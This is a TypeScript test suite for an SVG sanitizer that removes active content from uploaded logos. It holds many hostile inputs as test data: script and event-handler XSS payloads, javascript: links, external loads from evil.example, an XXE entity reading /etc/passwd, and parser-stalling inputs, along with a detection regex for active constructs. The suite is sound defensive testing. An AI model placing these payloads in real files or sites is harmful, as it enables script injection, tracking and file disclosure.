import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanSvg } from "./clean-svg.ts";
import { parseXml } from "./parse-xml.ts";

const wrap = (content: string, attributes = 'viewBox="0 0 10 20"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`;
const shape = '<path d="M0 0h10v10z" fill="#f00"/>';
/** The tags, without the text between them. */
const tagsOf = (svg: string) => (svg.match(/<[^>]*>/g) ?? []).join("");
const cleanedOf = (content: string) => cleanSvg(wrap(content + shape))?.svg ?? "";

/** Nothing of this may be in a cleaned drawing, however it was written. */
const active =
  /<\s*(?:script|foreignObject|iframe|image|a|animate|set|style|handler|object|embed|link|meta|filter|pattern)\b|\son\w+\s*=|javascript:|data:|https?:(?!\/\/www\.w3\.org\/2000\/svg")|<!|<\?|@import|expression\(|url\(\s*['"]?[^#'"]/i;

describe("ST3: logos are cleaned of everything active", () => {
  test.each([
    ["a script", "<script>alert(1)</script>"],
    ["a script in CDATA", "<script><![CDATA[alert(1)]]></script>"],
    ["a script with a prefix", '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'],
    ["a script of another namespace", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
    ["an external script", '<script xlink:href="https://evil.example/x.js"/>'],
    ["an event handler", '<g onload="alert(1)"/>'],
    ["an event handler in odd case", '<g oNcLiCk="alert(1)"/>'],
    [
      "foreign content",
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    ],
    ["a link", '<a xlink:href="javascript:alert(1)"><path d="M0 0"/></a>'],
    ["an encoded link", '<a href="&#106;avascript:alert(1)"><path d="M0 0"/></a>'],
    [
      "an animation that sets a link",
      '<animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="x"/>',
    ],
    ["an external picture", '<image href="https://evil.example/track.png" width="1" height="1"/>'],
    ["a picture as data", '<image href="data:image/svg+xml;base64,PHN2Zz4="/>'],
    ["an external use", '<use href="https://evil.example/x.svg#a"/>'],
    ["a use of data", '<use xlink:href="data:image/svg+xml,x#a"/>'],
    [
      "a style that loads",
      "<style>@import url(https://evil.example/x.css);path{fill:url(https://evil.example/#a)}</style>",
    ],
    [
      "a style attribute that loads",
      '<path d="M0 0" style="fill:url(https://evil.example/#a);background:url(data:x)"/>',
    ],
    [
      "a paint that loads",
      '<path d="M0 0" fill="url(//evil.example/#a)" stroke="url( \'https://evil.example\' )"/>',
    ],
    [
      "a filter that loads",
      '<filter id="f"><feImage href="https://evil.example"/></filter><g filter="url(#f)"/>',
    ],
    ["a base address", '<g xml:base="https://evil.example/"/>'],
    ["a processing instruction", '<?xml-stylesheet href="https://evil.example/x.css"?>'],
    ["markup in an attribute", '<g id="a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>'],
    ["markup in a title", "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>"],
  ])("%s", (_case, content) => {
    const svg = cleanedOf(content);
    expect(svg).toContain('d="M0 0h10v10z"');
    expect(tagsOf(svg)).not.toMatch(active);
  });

  test.each([
    ["entities of its own", `<!DOCTYPE svg [<!ENTITY a "x">]>${wrap("<title>&a;</title>")}`],
    ["external entities", `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${wrap("&a;")}`],
    ["entities that nobody has defined", wrap("<title>&xxe;</title>")],
    ["a document that is no drawing", "<html><body/></html>"],
    ["text", "hello"],
    ["nothing", ""],
    ["two roots", wrap(shape) + wrap(shape)],
    ["an open element", wrap("<g>")],
    ["crossed elements", wrap("<g><path></g></path>")],
    ["an attribute twice", wrap('<g id="a" id="b"/>')],
    ["a comment that ends early", wrap("<!-- a -- b -->")],
    ["no size", wrap(shape, "")],
    ["a size of nothing", wrap(shape, 'viewBox="0 0 0 10"')],
    ["nothing to see", wrap("<g/>")],
    ["elements without end", wrap("<g/>".repeat(6_000) + shape)],
    ["elements too deep", wrap("<g>".repeat(80) + shape + "</g>".repeat(80))],
    ["too many bytes", wrap(`<path d="${"M0 0".repeat(30_000)}"/>`)],
  ])("rejects %s", (_case, source) => {
    expect(cleanSvg(source)).toBeUndefined();
  });

  test.each([
    ["a number", `<rect width="${"1".repeat(90_000)}x"/>`],
    ["a list of numbers", `<polygon points="${"1".repeat(90_000)}x"/>`],
    ["a transformation", `<g transform="${"scale(1) ".repeat(10_000)}x"/>`],
    ["a style", `<g style="${"/*".repeat(45_000)}"/>`],
    ["a style sheet", `<style>${"a".repeat(90_000)}</style>`],
    ["spaces", `<g ${" ".repeat(90_000)}`],
    ["a document type", `<!DOCTYPE ${" ".repeat(90_000)}`],
    ["open elements", "<g ".repeat(30_000)],
  ])("%s without end takes no time", (_case, content) => {
    const start = performance.now();
    cleanSvg(wrap(content));
    expect(performance.now() - start).toBeLessThan(1_000);
  });

  test("elements that use each other again and again are left out", () => {
    const levels = Array.from(
      { length: 20 },
      (_, level) => `<g id="l${level}">${`<use href="#l${level - 1}"/>`.repeat(10)}</g>`,
    );
    expect(cleanedOf(levels.join("")).match(/<use/g)).toBeNull();
    expect(cleanedOf(`<g id="a"><path d="M0 0"/></g><use xlink:href="#a" x="3"/>`)).toContain(
      '<use x="3" href="#a"/>',
    );
    const masks = '<mask id="a"><g mask="url(#a)"><path d="M0 0"/></g></mask><g mask="url(#a)"/>';
    expect(cleanedOf(masks).match(/mask="url/g)).toHaveLength(1);
  });

  test("what drawing programs write stays as it looks", () => {
    const source = `<?xml version="1.0" encoding="utf-8"?>
      <!-- Generator: a drawing program -->
      <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
      <svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
        width="120px" height="40px" viewBox="0 0 120 40" xml:space="preserve">
        <style type="text/css">.cls-1{fill:#0f766e;} .cls-2, .cls-3{fill:none;stroke:#000;stroke-width:2px}</style>
        <metadata>about</metadata>
        <defs><linearGradient id="g" xlink:href="#h"><stop offset="0" style="stop-color:#fff;stop-opacity:1"/></linearGradient></defs>
        <g inkscape:label="Layer"><path class="cls-1" fill="red" d="M1,2 L3-4.5z"/><rect class="cls-3" x="1" y="2" width="3" height="4"/></g>
        <path style="fill:url(#g)" d="M0 0h1"/>
      </svg>`;
    const { svg, size } = cleanSvg(source) ?? {};
    expect(size).toEqual({ width: 120, height: 40 });
    expect(svg).toContain('<path fill="#0f766e" d="M1,2 L3-4.5z"/>');
    expect(svg).toContain(
      '<rect x="1" y="2" width="3" height="4" fill="none" stroke="#000" stroke-width="2px"/>',
    );
    expect(svg).toContain(
      '<linearGradient id="g" href="#h"><stop offset="0" stop-color="#fff" stop-opacity="1"/></linearGradient>',
    );
    expect(svg).toContain('<path d="M0 0h1" fill="url(#g)"/>');
    expect(svg).not.toMatch(/metadata|inkscape|style|class|DOCTYPE/);
  });

  test("a clean drawing stays the same when it is cleaned again", () => {
    const once =
      cleanSvg(wrap(`<title>A &amp; B</title><g transform="rotate(3 4 5)">${shape}</g>`))?.svg ?? "";
    expect(cleanSvg(once)?.svg).toBe(once);
  });

  test("what is left out can't be used again", () => {
    const { svg } = cleanSvg(wrap(`<a id='a'>${shape}</a><use href='#a'/>${shape}`)) ?? {};
    expect(svg).toContain("<path");
    expect(svg).not.toContain("<use");
  });

  test("random pieces of hostile drawings give nothing active, and always the same when cleaned again", () => {
    const pieces = [
      "<g>",
      "</g>",
      "<script>",
      "</script>",
      "<path d='M0 0'/>",
      "<style>",
      "</style>",
      "path{fill:url(http://a)}",
      "<![CDATA[",
      "]]>",
      "<!--",
      "-->",
      "&lt;",
      "&#60;script&#62;",
      "&amp;",
      "&x;",
      "<!ENTITY a 'b'>",
      "<?x",
      "?>",
      ' onload="a()"',
      "'",
      '"',
      ">",
      "<use href='#a'/>",
      "<a id='a'>",
      "</a>",
      "<foreignObject>",
      "</foreignObject>",
      "javascript:alert(1)",
      "\u0000",
      "\uD800",
      "<title>",
      "</title>",
      "<text x='1'>",
      "</text>",
      "<svg:g>",
      "</svg:g>",
      "<g style='fill:url(data:x)'/>",
      "<g xlink:href='data:x'/>",
      "<",
    ];
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 6 })), { maxLength: 14 }),
        (parts) => {
          const cleaned = cleanSvg(wrap(parts.join("") + shape));
          if (!cleaned) return;
          expect(tagsOf(cleaned.svg)).not.toMatch(active);
          expect(parseXml(cleaned.svg)).toBeDefined();
          expect(cleanSvg(cleaned.svg)?.svg).toBe(cleaned.svg);
        },
      ),
      { numRuns: 4_000 },
    );
  });
});
